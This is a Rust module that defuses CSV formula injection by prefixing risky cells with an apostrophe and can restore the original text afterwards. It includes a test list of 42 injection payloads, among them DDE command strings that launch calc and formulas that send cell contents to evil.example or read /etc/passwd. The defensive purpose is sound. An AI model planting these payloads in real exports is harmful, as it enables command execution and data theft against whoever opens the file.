//! Cells that a spreadsheet would run as a formula are made plain text.
//!
//! A cell that begins (after blanks) with `=`, `+`, `-`, `@`, a tab, a line break or a full-width form of these gets an
//! apostrophe in front. Reading undoes exactly that, so a file that was exported can be imported again.

/// First characters that spreadsheets take for the start of a formula, or that move the text into a cell of its own.
const LIVE: &[char] =
    &['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠', '﹢', '﹣', '﹦', '﹫', '−', '|', '%'];

fn is_live(text: &str) -> bool {
    let Some(first) = text.chars().next() else { return false };
    if LIVE.contains(&first) {
        return true;
    }
    // Blanks and marks without width in front do not make it safe.
    let hidden =
        |c: char| c.is_whitespace() || matches!(c, '\u{feff}' | '\u{200b}'..='\u{200f}' | '\u{2060}' | '\0');
    text.trim_start_matches(hidden).chars().next().is_some_and(|c| LIVE.contains(&c))
}

/// The text as it may stand in a CSV cell.
pub fn defused(text: &str) -> String {
    if is_live(text.trim_start_matches('\'')) { format!("'{text}") } else { text.to_owned() }
}

/// The text behind [`defused`].
pub(super) fn restored(text: &str) -> &str {
    match text.strip_prefix('\'') {
        Some(rest) if is_live(rest.trim_start_matches('\'')) => rest,
        _ => text,
    }
}

/// Forms of formulas that were used against real exports, after the OWASP notes on CSV injection.
#[cfg(test)]
pub(super) const PAYLOADS: [&str; 42] = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")",
    "=IMPORTXML(CONCAT(\"http://evil.example/?v=\",CONCATENATE(A2:E2)),\"//a/a10\")",
    "=WEBSERVICE(\"http://evil.example/\"&A1)",
    "=DDE(\"cmd\";\"/C calc\";\"!A0\")",
    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    "=SUM(1+1)*cmd|' /C calc'!A0",
    "='file:///etc/passwd'#$passwd.A1",
    "=IMAGE(\"http://evil.example/x.png\")",
    "+1+1",
    "+cmd|' /C calc'!A0",
    "+HYPERLINK(\"http://evil.example\",\"x\")",
    "+254 700 000 000",
    "++1",
    "-1+1",
    "-2+3+cmd|' /C calc'!D2",
    "-HYPERLINK(\"http://evil.example\",\"x\")",
    "--1",
    "-@SUM(1)",
    "@SUM(1+1)",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@IMPORTDATA(\"http://evil.example\")",
    "\t=1+1",
    "\t+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    " =1+1",
    "   @SUM(1)",
    "\u{a0}=1+1",
    "\u{feff}=1+1",
    "\u{200b}=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "﹦1+1",
    "'=1+1",
    "''=1+1",
    "|calc",
    "%0A=1+1",
];

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn each_of_the_42_payloads_is_defused_and_comes_back_as_it_was() {
        for payload in PAYLOADS {
            let cell = defused(payload);
            assert!(cell.starts_with('\''), "{payload:?} stays live");
            assert_eq!(restored(&cell), payload);
        }
    }

    #[test]
    fn ordinary_words_are_left_alone() {
        for text in ["", "Kenya", "a=b", "2026-11-22", "50.00", "KE;RW", "l'eau", "'quoted'", "'"] {
            assert_eq!(defused(text), text);
            assert_eq!(restored(text), text);
        }
    }
}
